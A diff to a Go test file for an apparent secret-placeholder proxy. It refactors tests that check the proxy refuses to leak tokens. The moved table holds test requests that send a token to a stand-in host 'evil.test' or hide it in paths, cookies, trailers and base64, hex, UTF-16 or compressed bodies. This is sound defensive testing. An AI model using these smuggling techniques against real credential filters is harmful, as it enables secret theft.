@@ -7,6 +7,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"net/url"
@@ -141,63 +142,8 @@ func compressed(t *testing.T, coding, text string) string {
 // TestAPlaceholderGoesNowhereElse is attacks 44, 46 and 47.
 func TestAPlaceholderGoesNowhereElse(t *testing.T) {
 	s := newSession(t)
-	tok, body, query := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"]
-	other := give(t, s.Store, GrantRequest{Session: "s2", Owner: "local", Names: []string{"TOKEN"}})["TOKEN"]
-	wide := strings.Join(strings.Split(tok, ""), "\x00")
-	jsonText, _ := json.Marshal(strings.ReplaceAll(tok, "p", "\u0070"))
-	at := "https://api.example.com/"
-	trailed := request("POST", at, "text")
-	trailed.Trailer = http.Header{"X-After": {tok}}
-	named := request("POST", at, "text")
-	named.Trailer = http.Header{http.CanonicalHeaderKey(tok): nil}
-	guess := tok[:len(tok)-1] + "A"
-	if guess == tok {
-		guess = tok[:len(tok)-1] + "B"
-	}
-	for about, r := range map[string]*http.Request{
-		"another host":               request("GET", "https://evil.test/", "", "Authorization", "Bearer "+tok),
-		"a host below":               request("GET", "https://x.api.example.com/", "", "X-Key", tok),
-		"another port":               request("GET", "https://api.example.com:8443/", "", "X-Key", tok),
-		"without TLS":                request("GET", "http://api.example.com/", "", "X-Key", tok),
-		"basic, another host":        request("GET", "https://evil.test/", "", "Authorization", "Basic "+b64("u:"+tok)),
-		"basic, not declared":        request("GET", at, "", "Authorization", "Basic "+b64("u:"+body)),
-		"the path":                   request("GET", at+tok, ""),
-		"the path, escaped":          request("GET", at+"%70addock%2dsecret%2DX", ""),
-		"the host's name":            request("GET", "https://"+strings.ToLower(strings.ReplaceAll(tok, "_", "-"))+".api.example.com/", ""),
-		"a user":                     request("GET", "https://u:"+tok+"@api.example.com/", ""),
-		"a header's name":            request("GET", at, "", tok, "x"),
-		"a cookie":                   request("GET", at, "", "Cookie", "a="+tok),
-		"the referer":                request("GET", at, "", "Referer", "https://a.test/?"+tok),
-		"a query":                    request("GET", at+"?a="+tok, ""),
-		"another parameter":          request("GET", at+"maps/1?other="+query, ""),
-		"a parameter's name":         request("GET", at+"maps/1?"+query+"=key", ""),
-		"another method":             request("POST", at+"maps/1?key="+query, ""),
-		"another path":               request("GET", at+"other?key="+query, ""),
-		"a body":                     request("POST", at, "text "+tok),
-		"a body, another host":       request("POST", "https://evil.test/", body),
-		"another session's":          request("GET", at, "", "X-Key", other),
-		"a guess":                    request("GET", at, "", "X-Key", guess),
-		"a part":                     request("GET", at, "", "X-Key", tok[:len(tok)-1]),
-		"base64 in a header":         request("GET", at, "", "X-Key", b64(tok)),
-		"base64 in another scheme":   request("GET", at, "", "Authorization", "Bearer "+b64("a"+tok)),
-		"base64 in a body":           request("POST", at, "x"+b64("ab"+tok)),
-		"base32 in a body":           request("POST", at, base32.StdEncoding.EncodeToString([]byte(tok))),
-		"hex":                        request("POST", at, strings.ToUpper(hex.EncodeToString([]byte(tok)))),
-		"UTF-16":                     request("POST", at, wide),
-		"JSON":                       request("POST", at, strings.Replace(string(jsonText), "paddock", `p\u0061ddock`, 1)),
-		"a form":                     request("POST", at, "a=paddock%2Dsecret%2DTOKEN"),
-		"HTML":                       request("POST", at, "&#112;addock-secret-TOKEN"),
-		"capitals":                   request("POST", at, strings.ToUpper(tok)),
-		"what follows the body":      trailed,
-		"the name of what follows":   named,
-		"gzip":                       request("POST", at, compressed(t, "gzip", body), "Content-Encoding", "gzip"),
-		"gzip, of which nobody told": request("POST", at, compressed(t, "gzip", body)),
-		"zstd":                       request("POST", at, compressed(t, "zstd", body)),
-		"brotli":                     request("POST", at, compressed(t, "br", "text "+body), "Content-Encoding", "br"),
-		"deflate":                    request("POST", at, compressed(t, "raw deflate", body), "Content-Encoding", "deflate"),
-		"twice":                      request("POST", at, compressed(t, "zstd", compressed(t, "gzip", body)), "Content-Encoding", "gzip, zstd"),
-		"said to be encoded":         request("POST", at, body, "Content-Encoding", "gzip"),
-	} {
+	tok := s.vars["TOKEN"]
+	for about, r := range misplaced(t, s) {
 		text := ""
 		if r.Body != nil {
 			all, _ := io.ReadAll(r.Body)
@@ -221,12 +167,70 @@ func TestAPlaceholderGoesNowhereElse(t *testing.T) {
 					t.Errorf("%s: it is sent: %q", about, out)
 				}
 			}
-			if f := fault.Of(err); err == nil || f.Kind != fault.Denied || f.Hint == "" {
-				t.Errorf("%s (split: %v): it is let out (%v)", about, split, err)
-			} else if strings.Contains(f.Message+f.Hint, token) || strings.Contains(f.Message+f.Hint, tok) {
-				t.Errorf("%s: the error tells %v", about, err)
-			}
+			wantRefused(t, fmt.Sprintf("%s (split: %v)", about, split), err, token, tok)
 		}
+	}
+}
+
+// misplaced are requests that have a placeholder, or a form of it, where it may not be.
+func misplaced(t *testing.T, s session) map[string]*http.Request {
+	t.Helper()
+	tok, body, query := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"]
+	other := give(t, s.Store, GrantRequest{Session: "s2", Owner: "local", Names: []string{"TOKEN"}})["TOKEN"]
+	wide := strings.Join(strings.Split(tok, ""), "\x00")
+	jsonText, _ := json.Marshal(strings.ReplaceAll(tok, "p", "\u0070"))
+	at := "https://api.example.com/"
+	trailed := request("POST", at, "text")
+	trailed.Trailer = http.Header{"X-After": {tok}}
+	named := request("POST", at, "text")
+	named.Trailer = http.Header{http.CanonicalHeaderKey(tok): nil}
+	guess := tok[:len(tok)-1] + "A"
+	if guess == tok {
+		guess = tok[:len(tok)-1] + "B"
+	}
+	return map[string]*http.Request{
+		"another host":              request("GET", "https://evil.test/", "", "Authorization", "Bearer "+tok),
+		"a host below":              request("GET", "https://x.api.example.com/", "", "X-Key", tok),
+		"another port":              request("GET", "https://api.example.com:8443/", "", "X-Key", tok),
+		"without TLS":               request("GET", "http://api.example.com/", "", "X-Key", tok),
+		"basic, another host":       request("GET", "https://evil.test/", "", "Authorization", "Basic "+b64("u:"+tok)),
+		"basic, not declared":       request("GET", at, "", "Authorization", "Basic "+b64("u:"+body)),
+		"the path":                  request("GET", at+tok, ""),
+		"the path, escaped":         request("GET", at+"%70addock%2dsecret%2DX", ""),
+		"the host's name":           request("GET", "https://"+strings.ToLower(strings.ReplaceAll(tok, "_", "-"))+".api.example.com/", ""),
+		"a user":                    request("GET", "https://u:"+tok+"@api.example.com/", ""),
+		"a header's name":           request("GET", at, "", tok, "x"),
+		"a cookie":                  request("GET", at, "", "Cookie", "a="+tok),
+		"the referer":               request("GET", at, "", "Referer", "https://a.test/?"+tok),
+		"a query":                   request("GET", at+"?a="+tok, ""),
+		"another parameter":         request("GET", at+"maps/1?other="+query, ""),
+		"a parameter's name":        request("GET", at+"maps/1?"+query+"=key", ""),
+		"another method":            request("POST", at+"maps/1?key="+query, ""),
+		"another path":              request("GET", at+"other?key="+query, ""),
+		"a body":                    request("POST", at, "text "+tok),
+		"a body, another host":      request("POST", "https://evil.test/", body),
+		"another session's":         request("GET", at, "", "X-Key", other),
+		"a guess":                   request("GET", at, "", "X-Key", guess),
+		"a part":                    request("GET", at, "", "X-Key", tok[:len(tok)-1]),
+		"base64 in a header":        request("GET", at, "", "X-Key", b64(tok)),
+		"base64 in another scheme":  request("GET", at, "", "Authorization", "Bearer "+b64("a"+tok)),
+		"base64 in a body":          request("POST", at, "x"+b64("ab"+tok)),
+		"base32 in a body":          request("POST", at, base32.StdEncoding.EncodeToString([]byte(tok))),
+		"hex":                       request("POST", at, strings.ToUpper(hex.EncodeToString([]byte(tok)))),
+		"UTF-16":                    request("POST", at, wide),
+		"JSON":                      request("POST", at, strings.Replace(string(jsonText), "paddock", `p\u0061ddock`, 1)),
+		"a form":                    request("POST", at, "a=paddock%2Dsecret%2DTOKEN"),
+		"HTML":                      request("POST", at, "&#112;addock-secret-TOKEN"),
+		"capitals":                  request("POST", at, strings.ToUpper(tok)),
+		"what follows the body":     trailed,
+		"the name of what follows":  named,
+		"gzip":                      request("POST", at, compressed(t, "gzip", body), "Content-Encoding", "gzip"),
+		"gzip that no header names": request("POST", at, compressed(t, "gzip", body)),
+		"zstd":                      request("POST", at, compressed(t, "zstd", body)),
+		"brotli":                    request("POST", at, compressed(t, "br", "text "+body), "Content-Encoding", "br"),
+		"deflate":                   request("POST", at, compressed(t, "raw deflate", body), "Content-Encoding", "deflate"),
+		"twice":                     request("POST", at, compressed(t, "zstd", compressed(t, "gzip", body)), "Content-Encoding", "gzip, zstd"),
+		"said to be encoded":        request("POST", at, body, "Content-Encoding", "gzip"),
 	}
 }
 
@@ -241,8 +245,10 @@ func TestABodyIsFilledHoweverItIsSplit(t *testing.T) {
 			t.Fatal(err)
 		}
 		got, err := io.ReadAll(iotest.HalfReader(r.Body))
-		if err != nil || string(got) != want {
-			t.Errorf("%s: it is %q (%v), want %q", about, got, err, want)
+		if err != nil {
+			t.Errorf("%s: got error %v, want none", about, err)
+		} else if string(got) != want {
+			t.Errorf("%s: got %q, want %q", about, string(got), want)
 		}
 		if err := r.Body.Close(); err != nil {
 			t.Error(err)
@@ -291,8 +297,10 @@ func TestForkRevokeRotate(t *testing.T) {
 	_, err := ask(fork, tok)
 	is(t, err, fault.Denied, "was not given")
 	vars := give(t, s.Store, GrantRequest{Session: "fork", Owner: "local", Names: []string{"BODY"}, From: "s1"})
-	if _, err := ask(fork, tok); err == nil || vars["BODY"] == s.vars["BODY"] {
-		t.Errorf("a fork that was given another secret: %v", err)
+	if _, err := ask(fork, tok); err == nil {
+		t.Error("a fork that was given another secret: got no error, want one")
+	} else if vars["BODY"] == s.vars["BODY"] {
+		t.Errorf(`a fork that was given another secret: vars["BODY"] = %q, want another`, vars["BODY"])
 	}
 	vars = give(t, s.Store, GrantRequest{Session: "fork", Owner: "local", Names: []string{"TOKEN"}, From: "s1"})
 	for _, placeholder := range []string{tok, vars["TOKEN"]} {
@@ -374,17 +382,19 @@ func TestWhatIsEchoedIsRedacted(t *testing.T) {
 			got := echoed(t, s.Engine, text, coding, n)
 			switch {
 			case strings.Contains(got, token):
-				t.Errorf("%s:: got = %q, want no %q in it", coding, got, token)
+				t.Errorf("%s: got = %q, want no %q in it", coding, got, token)
 			case strings.Contains(got, b64("user:" + token)[8:30]):
-				t.Errorf("%s:: got = %q, want no %q in it", coding, got, b64("user:" + token)[8:30])
+				t.Errorf("%s: got = %q, want no %q in it", coding, got, b64("user:" + token)[8:30])
 			case !strings.HasPrefix(got, "you said "+tok+", "+s.vars["QUERY"]+", "):
-				t.Errorf("%s:: got = %q, want prefix %q",
+				t.Errorf("%s: got = %q, want prefix %q",
 					coding, got, "you said "+tok+", "+s.vars["QUERY"]+", ")
 			}
 		}
 	}
-	if got := echoed(t, s.Engine, compressed(t, "br", compressed(t, "raw deflate", body)), "deflate, br", 0); strings.Contains(got, token) || !strings.Contains(got, tok) {
-		t.Errorf("it tells %q", got)
+	if got := echoed(t, s.Engine, compressed(t, "br", compressed(t, "raw deflate", body)), "deflate, br", 0); strings.Contains(got, token) {
+		t.Errorf("got %q, want no %q in it", got, token)
+	} else if !strings.Contains(got, tok) {
+		t.Errorf("got %q, want %q in it", got, tok)
 	}
 	resp := &http.Response{Header: http.Header{
 		"Location": {"https://evil.test/?t=" + url.QueryEscape("a b&c=d/efg")}, "Set-Cookie": {"a=b", "t=" + token + "; Secure"}, "X-" + http.CanonicalHeaderKey(token): {"a"}, token: {"x"},
@@ -404,12 +414,16 @@ func TestWhatIsEchoedIsRedacted(t *testing.T) {
 	odd := &http.Response{Header: http.Header{"Content-Encoding": {"compress"}}, Body: io.NopCloser(strings.NewReader("x"))}
 	is(t, s.Response(odd), fault.Unavailable, `encoded as "compress"`)
 	none := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("x"))}
-	if err := s.Store.Engine("nobody").Response(none); err != nil || none.Header.Get("Content-Encoding") == "" {
-		t.Errorf("a session without secrets: %v", err)
+	if err := s.Store.Engine("unknown").Response(none); err != nil {
+		t.Errorf("a session without secrets: got error %v, want none", err)
+	} else if none.Header.Get("Content-Encoding") == "" {
+		t.Error("a session without secrets: header Content-Encoding is empty, want some")
 	}
 	head := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("")), Request: &http.Request{Method: "HEAD"}}
-	if err := s.Response(head); err != nil || head.Header.Get("Content-Encoding") == "" {
-		t.Errorf("an answer to HEAD: %v", err)
+	if err := s.Response(head); err != nil {
+		t.Errorf("an answer to HEAD: got error %v, want none", err)
+	} else if head.Header.Get("Content-Encoding") == "" {
+		t.Error("an answer to HEAD: header Content-Encoding is empty, want some")
 	}
 }
 
@@ -433,8 +447,10 @@ func FuzzRequest(f *testing.F) {
 				continue
 			}
 			all := sent(t, r)
-			if r.URL.RawQuery != before || strings.Contains(strings.ToLower(all), Marker) {
-				t.Errorf("%s is sent %q", host, all)
+			if r.URL.RawQuery != before {
+				t.Errorf("%s is sent: r.URL.RawQuery = %q, want %q", host, r.URL.RawQuery, before)
+			} else if strings.Contains(strings.ToLower(all), Marker) {
+				t.Errorf("%s is sent: strings.ToLower(all) = %q, want no %q in it", host, strings.ToLower(all), Marker)
 			}
 			if all = strings.Replace(all, filledBy(filled.Replace(header), placeholder), "", 1); strings.Contains(all, token) && !strings.Contains(body+query+header, token) {
 				t.Errorf("%s is sent the value: %q", host, all)
@@ -512,8 +528,31 @@ func TestWhatAHostMayStillKnowIsNotAskedForInParts(t *testing.T) {
 		if err := s.Response(resp); err != nil {
 			t.Fatal(err)
 		}
-		if text, err := io.ReadAll(resp.Body); err != nil || strings.Contains(string(text), token) {
-			t.Errorf("%s: an answer has %q, %v", about, text, err)
+		if text, err := io.ReadAll(resp.Body); err != nil {
+			t.Errorf("%s: got error %v, want none", about, err)
+		} else if strings.Contains(string(text), token) {
+			t.Errorf("%s: text = %q, want no %q in it", about, string(text), token)
+		}
+	}
+}
+
+// wantRefused checks that err is a refusal with a hint, and names none of these.
+func wantRefused(t *testing.T, about string, err error, hidden ...string) {
+	t.Helper()
+	if err == nil {
+		t.Errorf("%s: it is let out, want it refused", about)
+		return
+	}
+	f := fault.Of(err)
+	if f.Kind != fault.Denied {
+		t.Errorf("%s: got an error of the kind %q, want %q: %v", about, f.Kind, fault.Denied, err)
+	}
+	if f.Hint == "" {
+		t.Errorf("%s: the refusal %v has no hint, want one", about, err)
+	}
+	for _, h := range hidden {
+		if strings.Contains(f.Message+f.Hint, h) {
+			t.Errorf("%s: the error says %q, %q, want no %q in it", about, f.Message, f.Hint, h)
 		}
 	}
 }
